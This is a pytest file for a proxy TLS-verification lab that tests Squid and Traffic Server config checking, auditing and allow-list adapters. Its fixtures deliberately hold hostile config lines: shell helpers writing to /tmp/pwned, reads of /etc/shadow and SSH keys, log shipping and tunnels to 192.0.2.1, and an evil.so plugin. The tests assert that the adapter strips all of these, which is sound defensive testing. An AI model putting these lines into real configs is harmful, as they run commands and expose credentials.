"""``check`` and ``audit`` for Squid and Traffic Server (issue 20): the adapted config of each lab
scenario gives that scenario's outcomes on the real server, the audit rules each fire on the
scenario that proves them, the adapters keep only their allow-list (helpers, plugins, includes,
tunnels, other listeners dropped, each with a note), and read no host file on a config's say-so.
"""

from __future__ import annotations

import os
import secrets
from pathlib import Path

import pytest
from conftest import REQUIRE_PROXIES

from harness import scenarios
from harness.audit import audit
from harness.check import _lab_paths, check
from harness.cli import main
from harness.configs import squid as sconf
from harness.configs import trafficserver as tconf
from harness.configs.base import Ports
from harness.configs.rules import rules
from harness.errors import ConfigError
from harness.proxies import RenderContext, driver
from harness.vocab import LOCAL_LAB_IP, ProxyKind

CONFIGS = Path(__file__).parent / "configs"
KINDS = (ProxyKind.SQUID, ProxyKind.TRAFFICSERVER)
SCENARIOS = sorted(s.id for s in scenarios.builtin().values() if s.proxy in KINDS)
#: As a user writes them: the internal root under /etc, the system bundle at Debian's path.
CTX = RenderContext(
    run_dir="/var/run/proxy",
    listen="0.0.0.0:8080",
    ca="/etc/proxy/internal-root.pem",
    bundle="/etc/ssl/certs/ca-certificates.crt",
    backend_ip=LOCAL_LAB_IP,
)


@pytest.fixture(scope="session")
def proxies(local_runtime: str) -> str:
    missing = [k.value for k in KINDS if not driver(k).find_binary()]
    if missing:
        msg = f"not installed: {', '.join(missing)} (apt-get install squid-openssl trafficserver)"
        if REQUIRE_PROXIES:
            pytest.fail(msg)
        pytest.skip(msg)
    return local_runtime


def _render(sid: str, where: Path) -> Path:
    """The scenario's config as the lab renders it (and its further files), written to *where*."""
    sc = scenarios.resolve(sid)
    drv = driver(sc.proxy)
    where.mkdir(parents=True, exist_ok=True)
    (where / drv.config_name).write_text(drv.render(sc, CTX))
    for name, text in drv.extra_files(sc, CTX).items():
        (where / name).write_text(text)
    return where / drv.config_name


# -- the adapted config judges as the lab's own scenario ------------------------------------------
@pytest.mark.integration
@pytest.mark.parametrize("sid", SCENARIOS)
def test_check_agrees_with_the_scenario(proxies: str, tmp_path: Path, sid: str) -> None:
    sc = scenarios.resolve(sid)
    want = {k: v.value for k, v in sc.expected.items()}
    if sc.backend.count(".") > 1:
        # check's wildcard is one label up from the config's name (the scenario's wildcard-parent);
        # the scenario's one-label *.internal is no identity check mints for api.svc.internal.
        want["wildcard"] = want.pop("wildcard-parent")
    result = check(sc.proxy.value, _render(sid, tmp_path), identities=tuple(want), runtime=proxies)
    got = {c.identity: c.outcome.value for c in result.cells}
    assert got == want, result.summary()


@pytest.mark.integration
@pytest.mark.docker
@pytest.mark.parametrize("sid", SCENARIOS)
def test_check_on_docker_agrees_with_the_scenario(docker_ready: str, tmp_path: Path, sid: str) -> None:
    """The same on the docker runtime (the lab image's Squid and Traffic Server)."""
    test_check_agrees_with_the_scenario(docker_ready, tmp_path, sid)


@pytest.mark.integration
def test_squid_routes_each_peer_by_its_acl(proxies: str) -> None:
    """Two peers, each reached by its own Host (cache_peer_access + dstdomain): judged one by one."""
    result = check("squid", CONFIGS / "squid" / "two-sites.conf", runtime=proxies)
    api = {c.identity: c.outcome.value for c in result.cells if "cache_peer api " in c.upstream}
    legacy = {c.identity: c.outcome.value for c in result.cells if "cache_peer legacy " in c.upstream}
    assert api["legit"] == "served" and api["wrong-name"] == "blocked" and api["public-ca"] == "blocked"
    assert legacy["legit"] == "served" and legacy["rogue-ca"] == "spoofed" and legacy["expired"] == "spoofed"
    assert [i["server"] for i in result.upstream_info] == ["portal.example.com", "legacy.example.com"]


@pytest.mark.integration
def test_squid_global_cert_error_reaches_the_peer_and_outgoing_options_do_not(proxies: str, tmp_path: Path) -> None:
    """Measured (Squid 5.7): ``sslproxy_cert_error allow all``, written for SSL-bump, bypasses the
    verifying cache_peer's errors too; ``tls_outgoing_options flags=DONT_VERIFY_PEER`` (DIRECT
    connections only) leaves the peer verifying. The adapter keeps both, so check shows both."""
    bypass = check("squid", CONFIGS / "squid" / "cert-error-allow-all.conf", runtime=proxies)
    assert {c.identity: c.outcome.value for c in bypass.cells if c.identity != "legit"} == {
        i: ("served" if i == "legit-no-chain" else "spoofed")
        for i in (c.identity for c in bypass.cells)
        if i != "legit"
    }, bypass.summary()
    outgoing = check("squid", CONFIGS / "squid" / "outgoing-options.conf", runtime=proxies)
    assert outgoing.outcome("rogue-ca") is outgoing.outcome("expired") is outgoing.outcome("wrong-name")
    assert outgoing.outcome("rogue-ca").value == "blocked"
    # A CA file that is the OS bundle (tls-default-ca=off): the lab's system bundle, public-ca answered.
    bundle = tmp_path / "squid.conf"
    bundle.write_text(
        (CONFIGS / "squid" / "outgoing-options.conf")
        .read_text()
        .replace("/etc/squid/internal-root.pem", "/etc/ssl/certs/ca-certificates.crt")
    )
    wide = check("squid", bundle, runtime=proxies)
    assert wide.outcome("public-ca").value == "spoofed" and wide.outcome("rogue-ca").value == "blocked"
    assert "squid-system-bundle" in audit(bundle).rules()
    assert "squid-cert-error-bypass" in audit(CONFIGS / "squid" / "cert-error-allow-all.conf").rules()
    assert "squid-cert-error-bypass" not in audit(CONFIGS / "squid" / "outgoing-options.conf").rules()


@pytest.mark.integration
def test_trafficserver_sni_yaml_policy_per_origin_and_10x_default(proxies: str) -> None:
    """records.yaml (10.x: policy ENFORCED by default, written out for the lab's 9.2) with an
    sni.yaml entry that relaxes one origin to PERMISSIVE: that origin's impostors are forwarded
    (with Traffic Server's own warning), the other's refused."""
    result = check("trafficserver", CONFIGS / "trafficserver" / "ts10" / "records.yaml", runtime=proxies)
    portal = {c.identity: c for c in result.cells if "backend-api.internal" in c.upstream}
    legacy = {c.identity: c for c in result.cells if "legacy.internal" in c.upstream}
    assert portal["legit"].outcome.value == "served" and portal["rogue-ca"].outcome.value == "blocked"
    assert legacy["rogue-ca"].outcome.value == "spoofed" and "Action=Continue" in legacy["rogue-ca"].reason
    notes = "\n".join(result.adaptations)
    assert "ENFORCED" in notes and "@plugin=evil.so dropped" in notes and "tunnel_route dropped" in notes


@pytest.mark.integration
def test_trafficserver_conf_remap_turns_verification_off_for_one_route(proxies: str) -> None:
    """Measured (9.2): ``@plugin=conf_remap.so @pparam=...verify.server.policy=DISABLED`` on one
    map rule overrides the global ENFORCED for that route alone. The adapter keeps conf_remap with
    allow-listed records only, so check and audit both see the second route."""
    path = CONFIGS / "trafficserver" / "conf-remap" / "records.config"
    result = check("trafficserver", path, runtime=proxies)
    v2 = {c.identity: c.outcome.value for c in result.cells if "/v2/" in c.upstream}
    root = {c.identity: c.outcome.value for c in result.cells if "/v2/" not in c.upstream}
    assert v2["rogue-ca"] == v2["wrong-name"] == "spoofed" and root["rogue-ca"] == root["wrong-name"] == "blocked"
    (finding,) = audit(path).findings
    assert finding.rule == "trafficserver-disabled" and "conf_remap" in finding.message


@pytest.mark.integration
def test_trafficserver_8x_verify_record_is_not_read_by_9(proxies: str) -> None:
    """Measured: ``proxy.config.ssl.client.verify.server INT 2`` (8.x's "enforce") alone leaves
    9.2 PERMISSIVE: every impostor is forwarded. audit says so instead of trusting the 8.x record."""
    path = CONFIGS / "trafficserver" / "legacy-8x" / "records.config"
    result = check("trafficserver", path, runtime=proxies)
    assert result.outcome("rogue-ca").value == result.outcome("wrong-name").value == "spoofed"
    (finding,) = audit(path).findings
    assert finding.rule == "trafficserver-permissive" and "8.x record" in finding.message


# -- audit: the same parse ----------------------------------------------------------------------
def test_every_rule_fires_on_the_scenario_it_names(tmp_path: Path) -> None:
    for kind in KINDS:
        for r in rules(kind):
            if r.id in ("squid-cert-error-bypass", "squid-system-bundle"):
                # Proved live on their own configs (above; the bundle one: no squid scenario names
                # an OS bundle path): their scenarios share the outcomes (public-ca or all spoofed).
                continue
            path = _render(r.scenario, tmp_path / r.id)
            assert r.id in audit(path, proxy=kind.value).rules(), (r.id, r.scenario)
            assert r.help.startswith("https://") and r.scenario in scenarios.builtin()


def test_good_configs_have_only_the_low_note(tmp_path: Path) -> None:
    assert audit(_render("squid/good", tmp_path / "s")).rules() == ["squid-wildcard-one-label"]
    assert audit(_render("trafficserver/good", tmp_path / "t")).rules() == []
    assert audit(_render("squid/good", tmp_path / "s")).proxy == "squid"  # guessed, not taken for Apache


# -- the allow-lists ----------------------------------------------------------------------------
SQUID_HOSTILE = """\
include /etc/squid/conf.d/*.conf
http_port 3128 accel defaultsite=portal.example.com ssl-bump generate-host-certificates=on
icp_port 3130
snmp_port 3401
htcp_port 4827
auth_param basic program /bin/sh -c "id > /tmp/pwned"
external_acl_type ext ttl=1 %SRC /bin/sh -c "id > /tmp/pwned"
url_rewrite_program /bin/sh -c "id > /tmp/pwned"
store_id_program /bin/sh
logfile_daemon /bin/sh
sslcrtd_program /bin/sh
cache_dir ufs /etc 100 16 256
hosts_file /etc/shadow
error_directory /root
access_log tcp://192.0.2.1:514
acl secret dstdomain "/etc/shadow"
acl via_helper external ext
acl ok src parameters("/root/.ssh/id_rsa")
cache_peer backend-api.internal parent 8443 0 no-query originserver name=be tls \\
    tls-cafile=/etc/squid/ca.pem tls-cert=/root/client.pem tls-key=/root/client.key \\
    monitorurl=http://backend-api.internal/health standby=10 tls-crlfile=/etc/squid/crl.pem
request_header_add X-From-Portal "yes" all
http_access deny secret
http_access deny via_helper
http_access allow all
never_direct allow all
"""


def test_squid_adapter_keeps_only_its_allow_list(tmp_path: Path) -> None:
    path = tmp_path / "squid.conf"
    path.write_text(SQUID_HOSTILE)
    lab = _lab_paths(tmp_path / "lab", tmp_path / "lab" / "run")
    adapted = sconf.adapt(path, lab, ports=Ports())
    text, notes = adapted.text, "\n".join(adapted.adaptations)
    for gone in (
        "/bin/sh",
        "include",
        "icp_port",
        "snmp_port",
        "htcp_port",
        "/etc/shadow",
        "/root",
        "cache_dir",
        "192.0.2.1",
        "ssl-bump",
        "monitorurl",
        "standby",
        "/etc/squid/ca.pem",
    ):
        assert gone not in text, gone
    for said in (
        "auth_param",
        "external_acl_type",
        "url_rewrite_program",
        "logfile_daemon",
        "sslcrtd_program",
        "include",
        "icp_port",
        "hosts_file",
        "acl secret -> never matches",
        "acl via_helper -> never",
        "acl ok -> never",
        "monitorurl dropped",
        "standby dropped",
        "replaced by a lab-minted client",
    ):
        assert said in notes, said
    # The rules naming the dropped ACLs still parse: each ACL exists once, matching no client.
    assert text.count("acl secret src 255.255.255.255/32") == 1 and "http_access deny secret" in text
    assert 'request_header_add X-From-Portal "yes" all' in text  # a quoted string, not a file
    assert text.splitlines()[1] == "cache deny all"  # first: no response cached across identities
    assert "http_port 127.0.0.1:" in text and f"tls-cafile={lab.ca}" in text
    (u,) = adapted.upstreams
    assert (u.host, u.port, u.name, u.route.host if u.route else None) == (
        "backend-api.internal",
        8443,
        "backend-api.internal",
        "portal.example.com",
    )


@pytest.mark.integration
def test_the_adapted_hostile_squid_config_runs_and_judges(proxies: str, tmp_path: Path) -> None:
    """What is left of the hostile config is a config Squid runs: never-matching ACLs parse, the
    peer verifies with the lab's CA, and its CRL (tls-crlfile) makes check run revoked."""
    path = tmp_path / "squid.conf"
    path.write_text(SQUID_HOSTILE)
    result = check("squid", path, runtime=proxies)
    assert result.rejected is None, result.rejected
    got = {c.identity: c.outcome.value for c in result.cells}
    assert got["legit"] == "served" and got["rogue-ca"] == got["revoked"] == "blocked", got


TS_RECORDS = """\
CONFIG proxy.config.ssl.client.verify.server.policy STRING ENFORCED
CONFIG proxy.config.ssl.client.CA.cert.filename STRING /etc/trafficserver/ca.pem
CONFIG proxy.config.http.server_ports STRING 80 443:ssl
CONFIG proxy.config.plugin.plugin_dir STRING /tmp/evil
CONFIG proxy.config.log.logfile_dir STRING /etc
CONFIG proxy.config.admin.user_id STRING root
CONFIG proxy.config.body_factory.template_sets_dir STRING /root
CONFIG proxy.config.ssl.client.cert.filename STRING /root/client.pem
"""
TS_REMAP = (
    ".include /etc/trafficserver/more.config\n"
    "map http://portal.example.com/ https://backend-api.internal:8443/ @plugin=/tmp/evil.so @pparam=/etc/shadow "
    "@action=allow @src_ip=127.0.0.1\n"
    "map http://b.example.com/ https://backend-api.internal:8443/ @plugin=conf_remap.so @pparam=/etc/conf.yaml "
    "@pparam=proxy.config.plugin.plugin_dir=/tmp/evil @pparam=proxy.config.ssl.client.verify.server.policy=DISABLED\n"
    "regex_map http://(.*)/ https://$1/\n"
    "redirect http://old.example.com/ https://new.example.com/\n"
)
TS_SNI = """\
sni:
- fqdn: backend-api.internal
  verify_server_properties: ALL
  client_cert: /root/client.pem
- fqdn: ssh.example.com
  tunnel_route: 192.0.2.1:22
- fqdn: fwd.example.com
  forward_route: 192.0.2.1:443
"""


def test_trafficserver_adapter_keeps_only_its_allow_list(tmp_path: Path) -> None:
    for name, text in (("records.config", TS_RECORDS), ("remap.config", TS_REMAP), ("sni.yaml", TS_SNI)):
        (tmp_path / name).write_text(text)
    lab = _lab_paths(tmp_path / "lab", tmp_path / "lab" / "run")
    adapted = tconf.adapt(tmp_path / "records.config", lab, ports=Ports())
    every = "\n".join([adapted.text, *adapted.extra_files.values()])
    for gone in (
        "/tmp/evil",
        "plugin_dir",
        "/etc/shadow",
        "logfile_dir STRING /etc\n",
        "user_id STRING root",
        "/root",
        "tunnel_route",
        "forward_route",
        "192.0.2.1",
        ".include",
        "regex_map",
        "443:ssl",
        "/etc/trafficserver/ca.pem",
    ):
        assert gone not in every, gone
    notes = "\n".join(adapted.adaptations)
    for said in (
        "plugin_dir dropped",
        "logfile_dir dropped",
        "@plugin=evil.so dropped",
        "@pparam=/etc/shadow dropped (a file)",
        "@pparam=proxy.config.plugin.plugin_dir dropped",
        "@pparam=/etc/conf.yaml dropped",
        ".include dropped",
        "regex_map dropped",
        "tunnel_route dropped",
        "forward_route dropped",
        "server_ports 80 443:ssl",
    ):
        assert said in notes, said
    remap = adapted.extra_files["remap.config"]
    assert "@plugin=conf_remap.so @pparam=proxy.config.ssl.client.verify.server.policy=DISABLED" in remap
    assert "map http://portal.example.com/ https://backend-api.internal:8443/ @action=allow @src_ip=127.0.0.1" in remap
    assert f"CA.cert.filename STRING {lab.ca}" in adapted.text and "policy STRING ENFORCED" in adapted.text
    assert set(adapted.extra_files) == {"remap.config", "ip_allow.yaml", "storage.config", "sni.yaml"}


def test_trafficserver_reads_no_link_out_and_shows_no_content(tmp_path: Path) -> None:
    token = f"trustlab-{secrets.token_hex(8)}"
    outside = tmp_path / "outside"
    outside.mkdir(mode=0o700)
    (outside / "remap.config").write_text(f"map / https://{token}.internal/\n")
    conf = tmp_path / "conf"
    conf.mkdir()
    (conf / "records.config").write_text(TS_RECORDS)
    os.symlink(outside / "remap.config", conf / "remap.config")
    with pytest.raises(ConfigError) as info:
        tconf.adapt(conf / "records.config", _lab_paths(tmp_path, tmp_path / "run"), ports=Ports())
    assert "symbolic link" in str(info.value) and token not in str(info.value)


@pytest.mark.bad_input
@pytest.mark.parametrize(
    ("kind", "files", "said"),
    [
        ("squid", {"squid.conf": "http_port 80 accel\ncache_peer a parent 80 0 originserver\n"}, "no HTTPS upstream"),
        ("squid", {"squid.conf": "http_port 80 accel\ncache_peer a parent x 0 tls\n"}, "is not a number"),
        ("trafficserver", {"records.config": TS_RECORDS}, "remap.config not found beside it"),
        ("trafficserver", {"records.yaml": "ts: [\n", "remap.config": ""}, "invalid YAML"),
        ("trafficserver", {"records.config": TS_RECORDS, "remap.config": "map / http://a/\n"}, "no HTTPS upstream"),
    ],
    ids=["squid-plain-peer", "squid-bad-port", "ts-no-remap", "ts-bad-yaml", "ts-plain-map"],
)
def test_bad_input_is_one_line_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str, files: dict[str, str], said: str
) -> None:
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    main_file = tmp_path / next(iter(files))
    assert main(["check", "--runtime", "local", kind, str(main_file)]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and said in err and "Traceback" not in err, err
